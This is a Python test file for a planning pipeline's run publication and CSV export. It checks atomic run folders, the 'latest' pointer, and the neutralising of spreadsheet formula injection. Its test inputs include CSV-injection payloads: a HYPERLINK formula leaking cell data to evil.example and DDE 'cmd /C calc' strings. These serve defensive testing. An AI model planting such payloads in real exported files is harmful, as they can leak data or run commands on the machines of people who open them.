"""Publication: a run appears whole under its id, `latest` follows it, failures publish nothing."""

from __future__ import annotations

import json
from datetime import UTC, date, datetime
from pathlib import Path

import polars as pl
import pytest
from extract_fixtures import MINIMAL_EXTRACT, write_extract

from planning.extract.read import read_extract
from planning.publish import RunFolder, latest_run, new_run_id, restore_text, write_csv
from planning.validation.validate import validate_extract


def test_run_ids_sort_by_start_time_and_differ_for_the_same_second():
    started = datetime(2026, 11, 25, 2, 0, 0, tzinfo=UTC)
    first, second = new_run_id(started), new_run_id(started)
    assert first.startswith("20261125T020000Z-") and first != second
    assert new_run_id(datetime(2026, 11, 26, tzinfo=UTC)) > first


def test_publish_moves_the_staged_run_into_place_and_switches_latest(tmp_path):
    first = RunFolder(tmp_path, "run-1")
    (first.create() / "orders.csv").write_text("a\n1\n")
    first.publish({"run_id": "run-1", "status": "succeeded"})
    assert latest_run(tmp_path) == tmp_path / "run-1"
    manifest = json.loads((tmp_path / "run-1" / "manifest.json").read_text())
    assert manifest["files"] == [
        {
            "name": "orders.csv",
            "bytes": 4,
            "sha256": "309b0e45a73d3fc5325e2b6ed0a01ef8b9cde6b05a5633c1f893f970d52bfddc",
        }
    ]
    second = RunFolder(tmp_path, "run-2")
    second.create()
    second.publish({"run_id": "run-2"})
    assert latest_run(tmp_path) == tmp_path / "run-2"
    assert (tmp_path / "run-1" / "orders.csv").read_text() == "a\n1\n"
    assert not any((tmp_path / ".staging").iterdir())


def test_a_discarded_run_leaves_latest_alone_and_keeps_its_files_aside(tmp_path):
    good = RunFolder(tmp_path, "run-1")
    good.create()
    good.publish({"run_id": "run-1"})
    bad = RunFolder(tmp_path, "run-2")
    (bad.create() / "partial.csv").write_text("x\n")
    kept = bad.discard({"run_id": "run-2", "status": "failed"})
    assert latest_run(tmp_path) == tmp_path / "run-1"
    assert not (tmp_path / "run-2").exists()
    assert kept == tmp_path / ".failed" / "run-2"
    assert json.loads((kept / "manifest.json").read_text())["status"] == "failed"
    assert (kept / "partial.csv").exists()


def test_latest_run_is_none_before_the_first_run(tmp_path):
    assert latest_run(tmp_path) is None


# --- published CSVs are safe to open in a spreadsheet -------------------------------------

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
    "-A1",
    "+",
    "-",
]


def _written(tmp_path: Path, frame: pl.DataFrame) -> str:
    write_csv(tmp_path / "out.csv", frame)
    return (tmp_path / "out.csv").read_text(encoding="utf-8")


def _cells(tmp_path: Path, frame: pl.DataFrame) -> pl.DataFrame:
    """The CSV as a spreadsheet sees it: every cell as text, exactly as written."""
    write_csv(tmp_path / "out.csv", frame)
    return pl.read_csv(tmp_path / "out.csv", infer_schema=False)


@pytest.mark.parametrize("formula", FORMULAS, ids=repr)
def test_a_text_cell_that_would_run_as_a_formula_is_prefixed_with_a_quote(tmp_path, formula):
    cells = _cells(tmp_path, pl.DataFrame({"item_id": [formula], "qty": [1.5]}))
    assert cells.get_column("item_id").to_list() == ["'" + formula]
    assert cells.get_column("qty").to_list() == ["1.5"]


def test_text_that_cannot_run_is_written_as_it_is(tmp_path):
    safe = ["FG-0000001", "PL01", "a=b", "x-1", " =1+1", "", None, "émigré", "1+1"]
    cells = _cells(tmp_path, pl.DataFrame({"text": safe}, schema={"text": pl.String}))
    assert cells.get_column("text").to_list() == safe


def test_numbers_dates_and_booleans_are_never_prefixed(tmp_path):
    frame = pl.DataFrame(
        {
            "qty": [-3.5, 1e15, -1e15, 0.0],
            "lead_time_days": [-3, 10**15, 0, 7],
            "due_date": [date(2026, 11, 23), date(2027, 2, 28), None, date(2026, 1, 1)],
            "start_at": [datetime(2026, 11, 23, 6, 0)] * 4,
            "is_late": [True, False, None, True],
        }
    )
    assert _written(tmp_path, frame).splitlines() == [
        "qty,lead_time_days,due_date,start_at,is_late",
        "-3.5,-3,2026-11-23,2026-11-23T06:00:00,true",
        # decimals in plain digits, never exponents (ERP imports often reject them)
        "1000000000000000,1000000000000000,2027-02-28,2026-11-23T06:00:00,false",
        "-1000000000000000,0,,2026-11-23T06:00:00,",
        "0,7,2026-01-01,2026-11-23T06:00:00,true",
    ]


def test_text_that_is_a_plain_number_is_left_alone_so_ids_like_minus_12_round_trip(tmp_path):
    ids = ["-12", "+3.5", "-1e15", "-.5", "0012", "-12abc", "-1-2"]
    cells = _cells(tmp_path, pl.DataFrame({"so_line": ids}))
    assert cells.get_column("so_line").to_list() == [
        "-12", "+3.5", "-1e15", "-.5", "0012", "'-12abc", "'-1-2",
    ]  # fmt: skip


def test_categorical_and_enum_text_is_guarded_too(tmp_path):
    frame = pl.DataFrame({"a": ["=1+1", "ok"], "b": ["@x", "ok"]}).with_columns(
        pl.col("a").cast(pl.Categorical), pl.col("b").cast(pl.Enum(["@x", "ok"]))
    )
    cells = _cells(tmp_path, frame)
    assert cells.rows() == [("'=1+1", "'@x"), ("ok", "ok")]


def test_the_frame_itself_is_not_changed(tmp_path):
    frame = pl.DataFrame({"item_id": ["=1+1"]})
    write_csv(tmp_path / "out.csv", frame)
    assert frame.get_column("item_id").to_list() == ["=1+1"]


def test_a_round_trip_through_polars_gives_back_ids_numbers_and_dates(tmp_path):
    frame = pl.DataFrame(
        {
            "order_id": ["PWO-FG-0000001-PL01-20261214-1", "-12", "0012", "'quoted", *FORMULAS[:3]],
            # quantities of 4 decimals at most, as they are written (planning.precision)
            "qty": [383.7485, -3.0, 1e15, 0.1, 0.3333, -1e15, 0.0001],
            "due_date": [date(2026, 12, 14)] * 7,
            "is_lead_time_compressed": [False, True, False, True, False, True, None],
        }
    )
    write_csv(tmp_path / "out.csv", frame)
    back = pl.read_csv(tmp_path / "out.csv", schema=frame.schema)
    # ids and numbers that need no guard come back exactly, without any help
    safe = [0, 1, 2]
    assert back[safe].equals(frame[safe])
    # a guarded cell comes back with its quote; the reader strips exactly one
    assert back.get_column("order_id").to_list()[3:] == [
        "''quoted",
        *("'" + f for f in FORMULAS[:3]),
    ]
    assert restore_text(back).equals(frame)


def test_quarantine_keeps_the_rejected_value_visible_but_neutralised(tmp_path):
    folder = write_extract(
        tmp_path / "extract",
        MINIMAL_EXTRACT
        | {
            "sales_orders.csv": "so_id,so_line,item_id,location_id,qty_open,due_date\n"
            '"=HYPERLINK(""http://evil.example"",""x"")",10,@SUM(1+1),D1,-4,2026-12-01'
        },
    )
    validated = validate_extract(read_extract(folder))
    write_csv(tmp_path / "quarantine.csv", validated.quarantine)
    cells = pl.read_csv(tmp_path / "quarantine.csv", infer_schema=False)
    assert cells.select("field", "value").rows() == [
        ("item_id", "'@SUM(1+1)"),
        ("qty_open", "-4"),  # a negative number is shown as written
    ]
    # the whole row, as JSON, starts with "{" and keeps every value as written
    record = json.loads(cells.get_column("record")[0])
    assert record["so_id"] == '=HYPERLINK("http://evil.example","x")'
    assert record["item_id"] == "@SUM(1+1)"
